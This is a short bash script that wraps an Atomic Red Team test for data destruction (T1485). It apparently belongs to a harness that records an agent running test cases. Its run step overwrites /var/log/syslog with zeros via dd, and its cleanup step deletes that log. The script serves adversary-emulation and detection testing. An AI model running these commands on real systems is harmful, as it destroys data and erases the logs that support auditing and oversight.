#!/usr/bin/env bash
# Atomic Red Team T1485-2: FreeBSD/macOS/Linux - Overwrite file with DD
# atomic GUID 38deee99-fd65-4031-bec8-bfa4f9f26146; technique T1485
# record.sh runs `case.sh run DIR` under the agent (recorded), then `case.sh cleanup DIR`.
W="${2:?usage: $0 run|cleanup DIR}"
cd "$W" || exit 1
run() {
    echo line > /var/log/syslog
    dd of=/var/log/syslog if=/dev/zero count=$(ls -l /var/log/syslog | awk '{print $5}') iflag=count_bytes 2>/dev/null
}
cleanup() {
    rm -f /var/log/syslog
}
"$1"
